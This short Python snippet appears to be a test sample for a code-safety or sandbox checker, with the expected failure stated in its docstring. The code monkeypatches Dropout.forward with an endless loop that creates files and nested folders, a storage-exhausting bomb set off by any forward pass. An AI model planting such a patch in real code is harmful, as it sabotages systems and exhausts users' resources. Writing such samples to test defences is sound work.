"""Makes empty files and folders without end, each folder in the last.

Fails: `wrote more than 1000 files`.
"""
import os

def forward(self, x, training=True):
    while True:
        open("file", "w").close()
        os.mkdir("folder")
        os.chdir("folder")

Dropout.forward = forward
